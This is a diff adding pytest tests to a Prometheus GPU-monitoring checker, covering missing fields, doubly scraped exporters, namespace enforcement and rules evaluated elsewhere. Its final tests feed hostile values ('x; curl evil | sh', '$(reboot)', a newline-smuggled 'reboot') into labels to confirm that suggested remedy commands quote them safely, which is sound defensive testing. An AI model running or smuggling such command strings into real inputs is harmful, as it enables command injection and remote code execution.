@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Mapping
 from dataclasses import replace
 from typing import Any
@@ -338,6 +339,13 @@ def test_fields_that_the_rules_miss_come_first() -> None:
     assert text.endswith(": H02 lacks DCGM_EXP_XID_ERRORS_COUNT")
 
 
+def test_fields_that_the_rules_could_not_be_asked_for_are_told_by_the_pages() -> None:
+    lack = MissingInput(check="H10", input="DCGM_FI_DEV_PCIE_LINK_WIDTH", reason="off")
+    results = found(seen_with(missing=(lack,)), blind=None, unread={"blind": "HTTP 500"})
+    assert [(r.word, r.state) for r in results] == [("fields", State.OPTIONAL)]
+    assert results[0].text.endswith(": H10 lacks DCGM_FI_DEV_PCIE_LINK_WIDTH")
+
+
 # The Prometheus
 
 PROMETHEUS: Mapping[str, tuple[dict[str, Any], Area, State, str, str]] = {
@@ -442,7 +450,7 @@ def test_what_a_prometheus_can_lack(name: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "field", ["exporters", "renamed", "dcgm", "history_days", "alertmanagers", "sources"]
+    "field", ["exporters", "renamed", "holders", "dcgm", "history_days", "alertmanagers", "sources"]
 )
 def test_a_question_without_an_answer_is_unknown_with_its_reason(field: str) -> None:
     changes: dict[str, Any] = {field: None, "unread": {field: f"HTTP 500 for {field}"}}
@@ -477,6 +485,41 @@ def test_an_exporter_that_is_scraped_twice() -> None:
         "scrape.by=none in our chart, or remove the other job",
     )
     assert {r.state for r in found(exporters=(*exporters, shard))} == {State.OK}
+
+
+@pytest.mark.parametrize("named", [("", ""), ("gpuatlas-0-x", "")])
+def test_an_exporter_that_is_scraped_twice_by_jobs_that_name_no_pod(
+    named: tuple[str, str],
+) -> None:
+    """As the job of docs/install.md and one that goes by annotations."""
+    exporters = healthy_prometheus().exporters
+    assert exporters is not None
+    jobs = ("gpuatlas", "kubernetes-service-endpoints")
+    both = [
+        replace(exporters[0], job=job, namespace="", pod=pod)
+        for job, pod in zip(jobs, named, strict=True)
+    ]
+    result, *_ = found(exporters=tuple(both))
+    assert (result.word, result.state) == ("gpuatlas", State.TODO)
+    assert "jobs gpuatlas, kubernetes-service-endpoints" in result.text
+    # Pods of two clusters may have one address.
+    apart = [replace(one, pod=f"gpuatlas-{at}") for at, one in enumerate(both)]
+    assert {r.state for r in found(exporters=tuple(apart))} == {State.OK}
+
+
+def test_a_namespace_that_is_written_over_all_others() -> None:
+    """enforcedNamespaceLabel comes after the scrape: there are no labels exported_…."""
+    own = frozenset({"gpu-monitoring"})
+    real = {a.namespace for n in healthy_seen().snapshot.nodes.values() for a in n.allocations}
+    assert real
+    assert not real & own
+    area, state, text, remedy = the_one(found(holders=own))
+    assert (area, state) == (Area.SCRAPE, State.TODO)
+    assert text.startswith("all pods on cards have the exporter's own namespace gpu-monitoring")
+    assert "excludedFromEnforcement" in remedy
+    # What is not known, what is there besides, and nothing at all are no findings.
+    for holders in (None, frozenset(), own | real, frozenset({"of-a-minute-ago"})):
+        assert found(holders=holders) == []
 
 
 def test_an_exporter_that_has_gone() -> None:
@@ -518,14 +561,15 @@ def test_groups_count_by_what_they_record_too() -> None:
 
 def test_no_rules_at_all() -> None:
     foreign = (LoadedRule(group="node", name="node:load:sum"),)
-    assert of_rules(word="recordings", rules=foreign) == [
+    nothing: dict[str, Any] = {"rules": foreign, "recorded": frozenset()}
+    assert of_rules(word="recordings", **nothing) == [
         (State.TODO, "no group of our recording rules is loaded: boards and sizing are empty")
     ]
-    assert of_rules(word="alerts", rules=foreign) == [
+    assert of_rules(word="alerts", **nothing) == [
         (State.TODO, f"no alert of alerts/{layer}.yaml is loaded")
         for layer in ("hardware", "sharing", "operations", "meta")
     ]
-    assert of_rules(word="evaluation", rules=foreign) == []
+    assert of_rules(word="evaluation", **nothing) == []
 
 
 def test_checks_that_are_switched_off_could_be_on() -> None:
@@ -539,7 +583,8 @@ def test_a_rule_that_fails() -> None:
     assert of_rules(word="evaluation", rules=(*rules, broken)) == [
         (
             State.TODO,
-            f"rules of ours that fail (1), such as {GROUPS['card']}: many-to-many matching",
+            f"rules of ours that fail (1), such as {GROUPS['card']} (group card): many-to-many "
+            "matching",
         )
     ]
 
@@ -561,6 +606,24 @@ def test_a_server_that_does_not_list_its_rules_is_judged_by_what_they_recorded()
     ]
 
 
+@pytest.mark.parametrize("listed", [(), (LoadedRule(group="node", name="node:load:sum"),)])
+def test_rules_that_another_program_evaluates_are_judged_by_what_they_recorded(
+    listed: tuple[LoadedRule, ...],
+) -> None:
+    """VictoriaMetrics answers /api/v1/rules with an empty list: vmalert has the rules."""
+    everything = frozenset(GROUPS.values())
+    assert of_rules(word="recordings", rules=listed, recorded=everything) == [
+        (State.OK, "33 of 33 groups of recording rules have series")
+    ]
+    assert of_rules(word="alerts", rules=listed, recorded=everything) == [
+        (
+            State.UNKNOWN,
+            "whether the alerts are loaded and which rules fail: the server lists none of our "
+            "rules; whatever evaluates them has to be asked",
+        )
+    ]
+
+
 def test_without_any_recorded_series_the_rules_are_not_loaded() -> None:
     results = of_rules(word="recordings", rules=None, recorded=frozenset())
     assert results == [
@@ -573,3 +636,27 @@ def test_without_any_recorded_series_the_rules_are_not_loaded() -> None:
 def test_recordings_without_the_states_of_the_checks() -> None:
     results = of_rules(word="recordings", rules=None, recorded=frozenset({GROUPS["card"]}))
     assert results[0] == (State.TODO, f"no {STATES}: the rules of check.yaml are not loaded")
+
+
+# Strangers' words in commands
+
+
+def test_a_label_of_a_strangers_page_is_no_part_of_a_command() -> None:
+    sight = SourceSight(source="x; curl evil | sh", up=False, namespace="a b", pod="$(reboot)")
+    (result,) = found(sources=(sight,))
+    assert result.remedy is not None
+    assert shlex.split(result.remedy.text) == [
+        *("kubectl", "-n", "a b", "logs", "$(reboot)", "|", "grep", "x; curl evil | sh")
+    ]
+    assert "'$(reboot)'" in result.remedy.text
+    (elsewhere,) = found(sources=(replace(sight, pod=""),))
+    assert elsewhere.remedy is not None
+    assert elsewhere.remedy.text.endswith("| grep 'x; curl evil | sh'")
+
+
+def test_the_name_of_a_strangers_group_is_no_part_of_a_command() -> None:
+    rules = rules_without()
+    broken = LoadedRule(group="g\nreboot", name=GROUPS["card"], error="many-to-many")
+    (result,) = found(rules=(*rules, broken))
+    assert result.remedy is not None
+    assert result.remedy.text == "promtool check rules recording_rules/*.yaml"
